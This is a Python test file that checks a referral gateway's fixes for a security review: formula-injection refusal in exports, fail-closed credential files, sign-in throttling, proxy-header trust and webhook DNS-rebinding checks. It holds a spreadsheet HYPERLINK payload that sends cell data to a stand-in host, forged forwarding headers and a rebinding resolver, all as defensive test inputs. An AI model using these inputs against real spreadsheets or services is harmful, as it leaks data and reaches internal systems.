"""The second security review's findings (issue 25), each reproduced and now refused."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from gateway_app import gateway
from typer.testing import CliRunner

from conftest import ROOT, migrated_sqlite
from frontdoor.cli.main import app as cli
from runtime.demo import DEMO_MANAGERS_FILE, DEMO_REFERRERS_FILE
from runtime.watched_file import WatchedFile
from schemas.yaml_files import ConfigFileError
from services.dashboard.sign_in import ManagersFile
from services.gateway.app import create_app
from services.gateway.keys import ApiKeys
from services.gateway.settings import GatewaySettings

SECRET = "s" * 40


# 1. The production gateway refuses the published demo referrer, in any file, at any time.


def test_production_gateway_refuses_a_copy_of_the_demo_referrers_file(tmp_path: Path) -> None:
    copy = tmp_path / "referrers.yaml"
    shutil.copy(DEMO_REFERRERS_FILE, copy)
    settings = GatewaySettings(
        environment="production",
        session_secret=SECRET,
        referrers_file=copy,
        keys_file=tmp_path / "keys.yaml",
        database={"url": migrated_sqlite(tmp_path / "records.db")},
    )
    with pytest.raises(ValueError, match="demo referrer"):
        create_app(settings)


def test_a_demo_account_added_to_a_running_dashboards_file_lets_nobody_in(tmp_path: Path) -> None:
    own = tmp_path / "managers.yaml"
    own.write_text("managers: []\n")
    from services.dashboard.app import _demo_account_refused  # noqa: PLC0415

    managers = ManagersFile(own, recheck_s=0, refuse=_demo_account_refused)
    assert managers.problem is None
    shutil.copy(DEMO_MANAGERS_FILE, own)
    os.utime(own, ns=(1, 10**18))  # a change the watcher sees even within one clock tick
    assert managers.current.managers == ()
    assert "demo account" in (managers.problem or "")


def test_adding_an_account_needs_a_file_of_the_councils_own() -> None:
    for command in (
        ["managers", "add", "x.y", "--name", "X", "--la", "808", "--password", "p"],
        ["referrers", "add", "x.y", "--name", "X", "--org", "cleveland-police", "--password", "p"],
    ):
        # wide and plain, so the refusal's words are never wrapped or cut by the console
        result = CliRunner().invoke(cli, command, env={"COLUMNS": "200", "NO_COLOR": "1"})
        assert result.exit_code == 2
        assert "--file" in result.output, result.output


# 10. Revocation fails closed: a credentials file deleted or broken lets nobody in.


def test_a_deleted_keys_file_revokes_every_key(tmp_path: Path) -> None:
    running = gateway(tmp_path)
    token = running.key_for("cleveland-police")
    assert running.app.state.keys.holder(token) is not None
    running.keys_file.unlink()
    assert running.app.state.keys.holder(token) is None
    assert (running.app.state.keys.problem or "").startswith("API keys file unusable")
    assert "nobody is let in" in (running.app.state.keys.problem or "")


def test_a_broken_credentials_file_lets_nobody_in_until_mended(tmp_path: Path) -> None:
    path = tmp_path / "keys.yaml"
    path.write_text("keys: []\n")
    watched = WatchedFile(path, ApiKeys, "API keys file", recheck_s=0, closed=ApiKeys())
    path.write_text("keys: [{broken\n")
    assert watched.current == ApiKeys()
    assert watched.problem is not None
    path.write_text("keys: []\n")
    assert watched.problem is None


def test_a_missing_credentials_file_at_start_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigFileError, match="missing"):
        WatchedFile(tmp_path / "none.yaml", ApiKeys, "API keys file", closed=ApiKeys())


# 7. What Front Door writes is readable by its own user alone.


def test_files_the_command_creates_are_private_whatever_the_umask(tmp_path: Path) -> None:
    database = tmp_path / "state" / "records.db"
    managers = tmp_path / "managers.yaml"

    def frontdoor(*args: str) -> None:
        subprocess.run(
            [sys.executable, "-m", "frontdoor", *args],
            check=True,
            cwd=ROOT,
            env=os.environ | {"FRONTDOOR_DATABASE_URL": f"sqlite:///{database}"},
            preexec_fn=lambda: os.umask(0o022),
            capture_output=True,
        )

    frontdoor("db", "upgrade")
    frontdoor(
        "managers", "add", "a.b", "--name", "A", "--la", "808", "--password", "p",
        "--file", str(managers),
    )  # fmt: skip
    assert stat.S_IMODE(database.parent.stat().st_mode) == 0o700
    for path in (database, managers):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


# 8. Annex A never carries a live spreadsheet formula.

FORMULA = '=HYPERLINK("https://example.org/?d="&A2&B2,"open")'


def test_a_worker_name_that_is_a_formula_is_refused_as_an_action() -> None:
    from pydantic import ValidationError  # noqa: PLC0415

    from schemas.triage import ManagerAction  # noqa: PLC0415

    base = {
        "action_id": "a",
        "kind": "allocate",
        "case_id": "c",
        "local_authority": "808",
        "actor": "duty.manager",
        "submitted_at": "2026-12-04T10:00:00Z",
    }
    for name in (FORMULA, "+44 1234", "@SUM(A1)", "-2+3", "\tx"):
        with pytest.raises(ValidationError, match="worker"):
            ManagerAction.model_validate(base | {"worker": name})
    for name in ("Sam Okafor", "Mary-Jane O'Neil", "Zoë Ç. Brontë", "Assessment Team 2"):
        assert ManagerAction.model_validate(base | {"worker": name}).worker == name


def test_cells_already_recorded_reach_csv_and_xlsx_as_text(tmp_path: Path) -> None:
    import csv  # noqa: PLC0415
    import io  # noqa: PLC0415

    from openpyxl import load_workbook  # noqa: PLC0415

    from frontdoor.cli.export import write_csv  # noqa: PLC0415
    from runtime.records_db.reports import workbook  # noqa: PLC0415

    lists = {"List 3": (("Worker", "Team"), [[FORMULA, "+cmd"], ["Sam", "@x"], ["-1", "ok"]])}
    (path,) = write_csv(tmp_path, "annex", lists)
    with path.open() as written:
        rows = list(csv.reader(written))
    assert rows[1:] == [["'" + FORMULA, "'+cmd"], ["Sam", "'@x"], ["'-1", "ok"]]
    sheet = load_workbook(io.BytesIO(workbook(lists)))["List 3"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [c.value for c in cells] == [FORMULA, "+cmd", "Sam", "@x", "-1", "ok"]
    assert {c.data_type for c in cells} == {"s"}


# 11. Reserved names are refused under any topic prefix.


@pytest.mark.parametrize("org", ["acme-frontdoor-intake", "frontdoor-x", "x-frontdoor", "admin"])
def test_an_id_that_could_be_a_front_door_user_under_any_prefix_is_refused(org: str) -> None:
    from schemas.topics import check_organisation_id  # noqa: PLC0415

    with pytest.raises(ValueError, match="reserved"):
        check_organisation_id(org)


# 3. Form bodies are bounded before they are read, and drafts hold only what a form can mean.


async def test_an_oversized_form_post_is_refused_before_it_is_read(tmp_path: Path) -> None:
    running = gateway(tmp_path)
    big = {"username": "x" * (400 * 1024), "password": "p"}
    async with running.client() as client:
        answer = await client.post("/refer/sign-in", data=big)
    assert answer.status_code == 413
    assert "too large" in answer.text


async def test_a_chunked_form_post_is_stopped_once_it_outgrows_the_limit(tmp_path: Path) -> None:
    running = gateway(tmp_path)
    read: list[int] = []

    async def chunks():  # no Content-Length: the limit must count while the body streams
        for _ in range(40):
            read.append(1)
            yield b"a=" + b"x" * 16 * 1024 + b"&"

    async with running.client() as client:
        answer = await client.post(
            "/refer/public",
            content=chunks(),
            headers={"content-type": "application/x-www-form-urlencoded"},
        )
    assert answer.status_code == 413
    assert len(read) < 40  # stopped partway, not read to the end


async def test_a_drafts_factors_are_known_codes_only_and_a_new_sign_in_drops_old_drafts(
    tmp_path: Path,
) -> None:
    from test_gateway_forms import answer, signed_in  # noqa: PLC0415

    running = gateway(tmp_path)
    forms = running.app.state.forms
    async with running.client() as client:
        token = await signed_in(client)
        await answer(client, token, "concerns", factors=["16A", "16A", "junk", "9" * 50])
        (draft,) = forms.drafts.values()
        assert draft["factors"] == ["16A"]
        await signed_in(client)  # the same browser signs in again
        assert list(forms.drafts.values()) in ([], [{}])


# 4. The sign-in throttle forgets, is bounded, and never locks the real user out from elsewhere.


def test_failures_from_elsewhere_never_lock_a_name_out_at_its_own_address() -> None:
    from runtime.web.sign_in import SignInThrottle  # noqa: PLC0415

    throttle = SignInThrottle(clock=lambda: 0.0)
    for attacker in ("198.51.100.1", "198.51.100.2"):
        for _ in range(10):
            throttle.failed("kim.duty", attacker)
    assert throttle.wait_s("kim.duty", "198.51.100.1") > 0  # the attacker is locked
    assert throttle.wait_s("kim.duty", "203.0.113.7") == 0  # the manager at their desk is not


def test_names_that_cannot_be_accounts_are_not_kept_and_keys_expire_and_are_capped() -> None:
    from runtime.web.sign_in import SignInThrottle  # noqa: PLC0415

    now = [0.0]
    throttle = SignInThrottle(clock=lambda: now[0], per_address=10**9, max_keys=100)
    for n in range(50):
        throttle.failed("x" * 10_000 + str(n), "198.51.100.1")
    assert len(throttle) == 1  # the address only: no junk name became a key
    for n in range(500):
        throttle.failed(f"user{n}", f"198.51.{n // 250}.{n % 250}")
    assert len(throttle) <= 2 * 100
    now[0] += 15 * 60 + 1
    throttle.failed("late.one", "192.0.2.1")
    assert len(throttle) == 2  # everything older than the window is forgotten


async def test_an_impossible_name_is_refused_without_hashing(tmp_path: Path, monkeypatch) -> None:
    from test_gateway_forms import csrf  # noqa: PLC0415

    from services.gateway.referrers import ReferrerAccounts  # noqa: PLC0415

    hashed: list[str] = []
    monkeypatch.setattr(
        ReferrerAccounts, "authenticate", lambda _self, name, _password: hashed.append(name)
    )
    running = gateway(tmp_path)
    async with running.client() as client:
        page = (await client.get("/refer/sign-in")).text
        answer = await client.post(
            "/refer/sign-in",
            data={"username": "Not An Account!" * 20, "password": "p", "csrf_token": csrf(page)},
        )
    assert answer.status_code == 401
    assert hashed == []


# 2. Proxy headers are believed from the configured proxies only; IPv6 counts by its /64.


async def seen_through_uvicorn(options: dict[str, object], peer: str, headers: dict) -> tuple:
    """What an app behind uvicorn's own proxy handling sees of a request from ``peer``."""
    import httpx  # noqa: PLC0415
    import uvicorn  # noqa: PLC0415
    from starlette.requests import Request  # noqa: PLC0415
    from starlette.responses import PlainTextResponse  # noqa: PLC0415

    from runtime.web.clients import client_key  # noqa: PLC0415

    async def app(scope, receive, send) -> None:
        request = Request(scope, receive)
        await PlainTextResponse(f"{client_key(request)} {scope['scheme']}")(scope, receive, send)

    config = uvicorn.Config(app, log_config=None, **options)  # type: ignore[arg-type]
    config.load()
    transport = httpx.ASGITransport(app=config.loaded_app, client=(peer, 5000))
    async with httpx.AsyncClient(transport=transport, base_url="http://gateway") as client:
        return tuple((await client.get("/", headers=headers)).text.split())


async def test_forwarded_headers_are_ignored_unless_the_proxy_is_trusted() -> None:
    from services.gateway.settings import GatewaySettings  # noqa: PLC0415

    forged = {"x-forwarded-for": "192.0.2.99", "x-forwarded-proto": "https"}
    untrusted = GatewaySettings().uvicorn_options()
    assert await seen_through_uvicorn(untrusted, "127.0.0.1", forged) == ("127.0.0.1", "http")
    ingress = GatewaySettings(trusted_proxies="10.42.0.0/16").uvicorn_options()
    assert await seen_through_uvicorn(ingress, "10.42.3.4", forged) == ("192.0.2.99", "https")
    assert await seen_through_uvicorn(ingress, "198.51.100.7", forged) == ("198.51.100.7", "http")


async def test_ipv6_clients_count_by_their_64() -> None:
    from services.gateway.settings import GatewaySettings  # noqa: PLC0415

    options = GatewaySettings().uvicorn_options()
    one = await seen_through_uvicorn(options, "2001:db8:1:2:aaaa::1", {})
    other = await seen_through_uvicorn(options, "2001:db8:1:2:bbbb::9", {})
    assert one[0] == other[0] == "2001:db8:1:2::/64"


# 9. A webhook's host is resolved and checked at every attempt, and the checked address is
#    the one connected to.


def _hook_partner(url: str):
    from schemas.partners import Partner  # noqa: PLC0415

    return Partner(
        id="school-x",
        name="School X",
        source="2A",
        local_authorities=("808",),
        webhook=url,
        webhook_secret="s" * 32,
    )


async def test_a_name_re_pointed_at_this_machine_after_its_check_is_never_connected_to() -> None:
    import asyncio  # noqa: PLC0415

    import httpx  # noqa: PLC0415

    from fakes import FakeRecord  # noqa: PLC0415
    from frontdoor.broker.local import free_port  # noqa: PLC0415
    from runtime.health import Health  # noqa: PLC0415
    from runtime.kafka.settings import KafkaSettings  # noqa: PLC0415
    from schemas.status import Status, StatusUpdate  # noqa: PLC0415
    from services.notifier.webhook_rules import webhook_problem  # noqa: PLC0415
    from services.notifier.webhooks import PartnerDelivery, RetryPolicy  # noqa: PLC0415

    port, connections = free_port(), []
    update = StatusUpdate(
        contact_id="c-1",
        referral_id="R-1",
        organisation_id="school-x",
        sequence=1,
        status=Status.RECEIVED,
        message="Received.",
        occurred_at="2026-11-17T09:30:00Z",  # type: ignore[arg-type]
    )

    async def count(_reader, writer) -> None:
        connections.append(1)
        writer.close()

    server = await asyncio.start_server(count, "127.0.0.1", port)
    partner = _hook_partner(f"https://localhost:{port}/hook")
    answers = iter(
        [[(2, 1, 6, "", ("8.8.8.8", port))]] + [[(2, 1, 6, "", ("127.0.0.1", port))]] * 9
    )
    resolve = lambda _host, _port: next(answers)  # noqa: E731 - first public, then this machine
    assert webhook_problem(partner, production=True, resolve=resolve) is None  # checked: public
    dead: list[str] = []

    async def dead_letter(_record, reason: str, _attempts: int) -> None:
        dead.append(reason)

    policy = RetryPolicy(max_attempts=3, initial_backoff_s=0.01, max_backoff_s=0.01, timeout_s=1)
    delivery = PartnerDelivery(
        KafkaSettings(), partner, policy, Health("notifier"), dead_letter,
        production=True, resolve=resolve,
    )  # fmt: skip
    async with server, httpx.AsyncClient() as client:
        assert await delivery._deliver(
            client,
            FakeRecord("status.school-x", update.model_dump_json().encode()),
            asyncio.Event(),
        )
    assert connections == []
    assert dead == ["the webhook's host resolves to an internal address (attempt 3)"]


async def test_a_name_that_does_not_resolve_is_tried_again_not_refused_for_ever() -> None:
    from services.notifier.webhook_rules import endpoint_for  # noqa: PLC0415

    partner = _hook_partner("https://hooks.example.org/front-door")
    calls: list[str] = []

    def resolve(host: str, _port: int):
        calls.append(host)
        if len(calls) == 1:
            raise OSError("temporary failure in name resolution")
        return [(2, 1, 6, "", ("8.8.8.8", 443))]

    first = await endpoint_for(partner.webhook, production=True, resolve=resolve)
    second = await endpoint_for(partner.webhook, production=True, resolve=resolve)
    assert first == "the webhook's host does not resolve"
    assert not isinstance(second, str)
    assert second.url == "https://8.8.8.8/front-door"  # the checked address, connected to
    assert second.headers == {"Host": "hooks.example.org"}  # and the name, for HTTP and TLS
    assert second.extensions == {"sni_hostname": "hooks.example.org"}


# 12. What answers without sign-in shows no data; a full rate table forgets the longest idle.


async def test_the_gateways_health_names_no_file(tmp_path: Path) -> None:
    running = gateway(tmp_path)
    running.keys_file.write_text("keys: [{broken\n")
    async with running.client() as client:
        health = (await client.get("/health")).json()
    assert health["warnings"] == {"keys": "unusable"}
    assert str(tmp_path) not in json.dumps(health)


def test_a_full_rate_table_forgets_the_longest_idle_caller_not_the_first_seen(monkeypatch) -> None:
    from services.gateway import limits  # noqa: PLC0415

    monkeypatch.setattr(limits, "MAX_KEYS", 3)
    now = [0.0]
    limit = limits.RateLimit(rate=1 / 3600, burst=2, clock=lambda: now[0])
    for key in ("busy", "b", "c"):
        limit.take(key)
        now[0] += 1
    limit.take("busy")  # the first seen is the most recent caller now
    assert limit.take("d") == 0.0  # the table is full: someone is forgotten
    assert limit.take("busy") > 0  # not the busy caller, whose bucket is empty
